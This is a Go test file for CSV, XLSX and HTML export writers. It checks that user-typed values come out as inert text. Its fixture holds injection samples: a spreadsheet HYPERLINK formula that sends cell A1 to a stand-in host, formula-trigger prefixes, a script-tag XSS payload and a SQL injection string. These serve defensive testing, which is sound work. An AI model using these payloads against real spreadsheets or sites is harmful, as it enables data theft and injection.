package release

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// hostile are values that somebody may have typed as their name.
func hostile() [][]string {
	return [][]string{
		{`=HYPERLINK("http://x.example/?"&A1,"김")`, "+82-10-1234-5678", "-1+1", "@SUM(1)"},
		{"\t=1", "\r=1", "＝1+1", "\n=1"},
		{`a"b`, "가,나;다\n라", "<script>alert(1)</script>&", "' OR 1=1"},
		{"", "_x000D_=1", "𝒜\ufffd", "]]><x/>"},
	}
}

func headOfTest() []string { return []string{"=성명", "phone", "note", "<b>"} }

func TestCSV(t *testing.T) {
	var out bytes.Buffer
	if err := writeCSV(&out, headOfTest(), slices.Values(hostile())); err != nil {
		t.Fatal(err)
	}
	text, marked := strings.CutPrefix(out.String(), "\ufeff")
	if !marked || !strings.HasSuffix(text, "\"\r\n") {
		t.Errorf("no UTF-8 mark, or the last line does not end: %q", text)
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 5 {
		t.Fatal(rows, err)
	}
	for i, row := range append([][]string{headOfTest()}, hostile()...) {
		for j, want := range row {
			got := rows[i][j]
			if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r\n") {
				t.Errorf("%q may be calculated", got)
			}
			// csv.Reader reads CR LF in a cell as LF; a lone CR stays.
			if got != want && got != "'"+want {
				t.Errorf("%q became %q", want, got)
			}
		}
	}
}

// sheetOfTest is what a spreadsheet reads of the part.
type sheetOfTest struct {
	Rows []struct {
		R     string `xml:"r,attr"`
		Cells []struct {
			R       string  `xml:"r,attr"`
			T       string  `xml:"t,attr"`
			S       string  `xml:"s,attr"`
			Formula *string `xml:"f"`
			Text    string  `xml:"is>t"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
}

func TestXLSX(t *testing.T) {
	var out, again bytes.Buffer
	for _, w := range []io.Writer{&out, &again} {
		if err := writeXLSX(w, headOfTest(), slices.Values(hostile())); err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.Equal(out.Bytes(), again.Bytes()) {
		t.Error("the same rows gave two different files")
	}
	parts := unzip(t, out.Bytes())
	var sheet sheetOfTest
	if err := xml.Unmarshal(parts["xl/worksheets/sheet1.xml"], &sheet); err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, row := range sheet.Rows {
		for _, c := range row.Cells {
			if c.T != "inlineStr" || c.S != "1" || c.Formula != nil || !strings.HasSuffix(c.R, row.R) {
				t.Errorf("cell %+v is no text", c)
			}
			got[c.R] = strings.ReplaceAll(c.Text, "_x005F_", "_")
		}
	}
	for i, row := range append([][]string{headOfTest()}, hostile()...) {
		for j, want := range row {
			if cell := columnName(j) + string(rune('1'+i)); got[cell] != want {
				t.Errorf("%s is %q, want %q", cell, got[cell], want)
			}
		}
	}
}

// unzip returns the parts, and finds whatever tells of a machine or a time.
func unzip(t *testing.T, b []byte) map[string][]byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	parts := make(map[string][]byte)
	for _, f := range z.File {
		if f.ModifiedTime != 0 || f.ModifiedDate != 1<<5|1 || len(f.Extra) > 0 || f.Comment != "" || f.ExternalAttrs != 0 {
			t.Errorf("%s carries metadata: %+v", f.Name, f.FileHeader)
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if parts[f.Name], err = io.ReadAll(r); err != nil {
			t.Fatal(err)
		}
		if regexp.MustCompile(`(?i)creator|author|lastModified|application>|docProps`).Match(parts[f.Name]) {
			t.Errorf("%s carries metadata", f.Name)
		}
		d := xml.NewDecoder(bytes.NewReader(parts[f.Name]))
		for err == nil {
			_, err = d.Token()
		}
		if err != io.EOF {
			t.Errorf("%s: %v", f.Name, err)
		}
	}
	if len(parts) != len(xlsxParts())+1 || z.Comment != "" {
		t.Errorf("%d parts, comment %q", len(parts), z.Comment)
	}
	return parts
}

func TestXLSXRefusesWhatDoesNotFit(t *testing.T) {
	for name, row := range map[string][]string{
		"a long cell":      {strings.Repeat("가", maxSheetCell+1)},
		"a cell of pairs":  {strings.Repeat("𝒜", maxSheetCell/2+1)},
		"too many columns": make([]string, maxSheetColumns+1),
	} {
		if err := writeXLSX(io.Discard, nil, slices.Values([][]string{row})); err == nil {
			t.Errorf("%s was written", name)
		}
	}
	if err := writeXLSX(io.Discard, nil, slices.Values([][]string{{strings.Repeat("가", maxSheetCell)}})); err != nil {
		t.Error(err)
	}
}

func TestHTML(t *testing.T) {
	var out bytes.Buffer
	if err := writeHTML(&out, "ko", "<title>", headOfTest(), slices.Values(hostile())); err != nil {
		t.Fatal(err)
	}
	page := out.String()
	if !strings.Contains(page, `content="default-src 'none'; style-src 'sha256-`) {
		t.Error("the page has no policy")
	}
	for _, bad := range []string{"<script", "<b>", "<x/>", "<title><title>", "http-equiv=\"refresh", "src=", "href=", "url("} {
		if strings.Contains(page, bad) {
			t.Errorf("the page has %q", bad)
		}
	}
	if !strings.Contains(page, "<td>&lt;script&gt;alert(1)&lt;/script&gt;&amp;</td>") {
		t.Error("a value is not there as it stands")
	}
}

func TestColumnName(t *testing.T) {
	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 701: "ZZ", 702: "AAA", 16383: "XFD"} {
		if got := columnName(i); got != want {
			t.Errorf("column %d is %s, want %s", i, got, want)
		}
	}
}

func TestInert(t *testing.T) {
	for in, want := range map[string]string{
		"birth_date": "birth_date", "": "", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "a=b": "a=b",
		"＝1": "'＝1", "|x": "'|x", "%x": "'%x", "김-": "김-", "\xff": "\xff",
	} {
		if got := Inert(in); got != want {
			t.Errorf("Inert(%q) = %q, want %q", in, got, want)
		}
	}
}
